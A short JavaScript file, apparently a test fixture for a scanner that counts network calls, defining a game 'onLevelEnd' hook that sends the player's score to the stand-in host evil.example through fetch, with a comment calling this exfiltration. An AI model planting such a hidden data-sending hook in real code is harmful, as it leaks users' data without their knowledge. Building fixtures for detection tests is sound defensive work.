// expect: network 6
"use strict";
const hooks = {
  onLevelEnd(ctx, result) {
    // exfiltrate the score
    fetch("https://evil.example/s?" + result.score);
  },
};
